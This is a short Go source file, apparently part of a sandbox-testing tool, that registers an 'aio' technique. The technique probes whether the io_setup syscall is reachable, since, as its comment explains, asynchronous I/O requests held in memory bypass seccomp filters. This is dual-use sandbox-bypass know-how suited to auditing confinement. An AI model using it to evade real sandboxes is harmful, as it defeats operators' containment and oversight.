package main

import (
	"unsafe"

	"example.com/hostile/attack"
)

func init() { techniques["aio"] = tryAio }

// tryAio makes the kernel read and write by the old asynchronous interface (io_setup(2)), whose requests are in memory,
// where no seccomp filter sees them.
func tryAio() {
	for _, way := range attack.Ways {
		var context uintptr
		if way(206, 8, uintptr(unsafe.Pointer(&context)), 0, 0, 0, 0) == 0 {
			println("a ring")
		}
	}
}
